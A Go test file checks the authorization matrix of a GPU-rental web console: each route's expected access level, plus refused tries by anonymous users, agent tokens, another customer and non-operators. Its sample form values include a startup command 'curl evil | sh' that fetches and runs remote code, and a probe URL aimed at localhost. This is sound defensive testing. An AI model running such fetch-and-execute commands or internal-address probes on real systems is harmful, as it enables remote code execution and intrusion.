package app

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// consoleRule is a console route's entry in the matrix: who may use it
// (public, self: any logged-in account on its own data, owner: customer
// A's resource named in the path, operator), what fills its path
// parameters, the form a refused try sends (with a valid CSRF token, so
// that only the access rule stands between the try and a change) and, for
// a public route, why.
type consoleRule struct {
	who  who
	ids  map[string]string
	form url.Values
	why  string
}

// consoleMatrix is the expected access of every console page and form
// action; the key is the pattern exactly as the console registers it.
var consoleMatrix = map[string]consoleRule{
	"/":                     {who: public, why: "the not-found page of every other path"},
	"GET /assets/":          {who: public, why: "the console's scripts and styles"},
	"GET /{$}":              {who: public, why: "the home page"},
	"GET /login":            {who: public, why: "sign-in"},
	"POST /login":           {who: public, why: "sign-in"},
	"GET /signup":           {who: public, why: "sign-up"},
	"POST /signup":          {who: public, why: "sign-up"},
	"GET /password/forgot":  {who: public, why: "password reset by e-mail"},
	"POST /password/forgot": {who: public, why: "password reset by e-mail"},
	"GET /password/reset":   {who: public, why: "password reset by e-mailed token"},
	"POST /password/reset":  {who: public, why: "password reset by e-mailed token"},
	"GET /probe":            {who: public, why: "the zones' latency probe"},
	"GET /market":           {who: public, why: "the market"},
	"GET /rent/estimate":    {who: public, why: "price estimates"},
	"GET /calculator":       {who: public, why: "the rent-or-buy calculator"},
	"GET /calculator.json":  {who: public, why: "the rent-or-buy calculator"},

	"POST /logout":                       {who: self},
	"GET /account":                       {who: self},
	"POST /account/email/verify":         {who: self},
	"GET /account/email/confirm":         {who: self, why: "the link's token is checked against the signed-in account"},
	"POST /account/password":             {who: self, form: url.Values{"current": {"customer-pw-12"}, "password": {"stolen-pw-123"}}},
	"POST /account/tokens":               {who: self, form: url.Values{"name": {"stolen"}}},
	"POST /account/tokens/{id}/revoke":   {who: owner, ids: map[string]string{"id": "apitoken"}},
	"POST /account/ssh-keys":             {who: self, form: url.Values{"key": {matrixSpareKey}}},
	"POST /account/ssh-keys/{id}/delete": {who: owner, ids: map[string]string{"id": "sshkey"}},
	"POST /account/academic":             {who: self, form: url.Values{"method": {"proof"}, "institution": {"Evil U"}, "proof": {"trust me"}}},
	"GET /billing":                       {who: self},
	"GET /billing/statements/{month}":    {who: self},
	"POST /billing/voucher":              {who: self, form: url.Values{"code": {"NOSUCHCODE"}}},
	"POST /billing/limits":               {who: self, form: url.Values{"daily": {"1"}, "monthly": {"1"}, "stop_running": {"on"}}},
	"POST /billing/webhook":              {who: self, form: url.Values{"webhook": {"https://hook.example/x"}}},
	"POST /billing/topup":                {who: self, form: url.Values{"provider": {"bank-transfer"}, "amount": {"1"}}},
	"GET /dashboard":                     {who: self},
	"GET /dashboard/events":              {who: self},
	"GET /rent":                          {who: self},
	"POST /rent":                         {who: self, form: url.Values{"gpu": {"rtx4090-24g"}, "count": {"1"}, "image": {"busybox"}, "do": {"rent"}}},

	"GET /instances/{id}":          {who: owner, ids: instanceOfA},
	"GET /instances/{id}/events":   {who: owner, ids: instanceOfA},
	"GET /instances/{id}/upgrade":  {who: owner, ids: instanceOfA},
	"POST /instances/{id}/upgrade": {who: owner, ids: instanceOfA, form: url.Values{"gpu_type": {"rtx4090-24g"}, "gpu_count": {"2"}}},
	"POST /instances/{id}/stop":    {who: owner, ids: instanceOfA},
	"POST /instances/{id}/start":   {who: owner, ids: instanceOfA},
	"POST /instances/{id}/delete":  {who: owner, ids: instanceOfA},
	"POST /instances/{id}/migrate": {who: owner, ids: instanceOfA},
	"POST /instances/{id}/port":    {who: owner, ids: instanceOfA, form: url.Values{"port": {"8888"}}},
	"POST /instances/{id}/startup": {who: owner, ids: instanceOfA, form: url.Values{"mode": {"command"}, "startup": {"curl evil | sh"}}},
	"GET /instances/{id}/logs":     {who: owner, ids: instanceOfA},
	"POST /instances/{id}/verify":  {who: owner, ids: instanceOfA},

	"GET /ops":                           {who: operatorOnly},
	"GET /ops/fleet":                     {who: operatorOnly},
	"GET /ops/fleet/hosts/{id}":          {who: operatorOnly, ids: map[string]string{"id": "host"}},
	"POST /ops/hosts/{id}/{action}":      {who: operatorOnly, ids: map[string]string{"id": "host", "action": "hostAction"}},
	"POST /ops/zones/{id}/probe":         {who: operatorOnly, ids: map[string]string{"id": "zone"}, form: url.Values{"probe_url": {"http://127.0.0.1:9/"}}},
	"POST /ops/gpus/{uuid}/{action}":     {who: operatorOnly, ids: map[string]string{"uuid": "gpu", "action": "gpuAction"}, form: url.Values{"reason": {"sabotage"}}},
	"GET /ops/prices":                    {who: operatorOnly},
	"POST /ops/prices":                   {who: operatorOnly, form: url.Values{"note": {"free GPUs"}}},
	"POST /ops/vouchers":                 {who: operatorOnly, form: url.Values{"amount": {"1000000"}, "max": {"100"}, "expires": {"2099-01-01"}}},
	"GET /ops/accounts":                  {who: operatorOnly},
	"POST /ops/accounts/credit":          {who: operatorOnly, ids: nil, form: url.Values{"account": {"{accountA}"}, "amount": {"1000000"}, "reason": {"free money"}}},
	"POST /ops/accounts/transfer":        {who: operatorOnly, form: url.Values{"provider": {"bank-transfer"}, "reference": {"{payment}"}, "amount": {"500"}}},
	"GET /ops/academic":                  {who: operatorOnly},
	"POST /ops/academic/{id}/{decision}": {who: operatorOnly, ids: map[string]string{"id": "application", "decision": "decision"}, form: url.Values{"note": {"self-approved"}}},
	"GET /ops/incidents":                 {who: operatorOnly},
	"GET /ops/images":                    {who: operatorOnly},
	"GET /ops/revenue":                   {who: operatorOnly},
}

// consoleAccess is the console's own word for each of the matrix's.
var consoleAccess = map[who]string{public: "public", self: "customer", owner: "customer", operatorOnly: "operator"}

func TestConsoleAuthorizationMatrix(t *testing.T) {
	w := startMatrixWorld(t)
	var served []string
	declared := map[string]string{}
	for _, r := range w.s.Console.Routes() {
		served = append(served, r.Pattern)
		declared[r.Pattern] = r.Access
	}
	checkTable(t, "consoleMatrix", served, consoleMatrix)
	for p, rule := range consoleMatrix {
		if a, ok := declared[p]; ok && consoleAccess[rule.who] != a {
			t.Errorf("console route %q is registered as %s, but consoleMatrix says %s", p, a, rule.who)
		}
	}
	if t.Failed() {
		t.FailNow()
	}
	w.ids["apitoken"] = w.apiTokenA
	w.ids["hostAction"], w.ids["gpuAction"], w.ids["decision"] = "cordon", "cordon", "approve"

	const csrf = "matrix-csrf-token-0123456789abcdefghijklmno" // 43 characters, as the console's
	// as sends the console's cookies of a session (none when "").
	as := func(session string) http.Header {
		c := "gpurent_csrf=" + csrf
		if session != "" {
			c += "; gpurent_session=" + session
		}
		return http.Header{"Cookie": {c}, "Content-Type": {"application/x-www-form-urlencoded"}}
	}
	base := w.fingerprint()
	for _, pattern := range served {
		rule := consoleMatrix[pattern]
		method, path, _ := strings.Cut(pattern, " ")
		path = w.fill(strings.TrimSuffix(path, "{$}"), rule.ids)
		form := url.Values{"_csrf": {csrf}}
		for k, vs := range rule.form {
			for _, v := range vs {
				form.Add(k, strings.NewReplacer("{accountA}", w.ids["accountA"], "{payment}", w.ids["payment"]).Replace(v))
			}
		}
		body := ""
		if method == http.MethodPost {
			body = form.Encode()
		}
		// The anonymous are sent to log in from a page and refused a form.
		anon := []int{http.StatusSeeOther}
		if method == http.MethodPost {
			anon = []int{http.StatusUnauthorized}
		}
		switch rule.who {
		case public:
			if rule.why == "" {
				t.Errorf("console route %s is public without a reason: say why in its entry", pattern)
			}
			continue
		case self, owner, operatorOnly:
			base = w.tryRefused(t, base, pattern, method, path, body, as(""), try{as: "anonymously", want: anon})
			base = w.tryRefused(t, base, pattern, method, path, body, as(w.agent), try{as: "with an agent's token for a session", want: anon})
		}
		switch rule.who {
		case owner:
			base = w.tryRefused(t, base, pattern, method, path, body, as(w.b),
				try{as: "as customer B on customer A's resource", want: []int{http.StatusForbidden, http.StatusNotFound}})
		case operatorOnly:
			base = w.tryRefused(t, base, pattern, method, path, body, as(w.a), try{as: "as customer A", want: []int{http.StatusNotFound}})
		}
	}
}
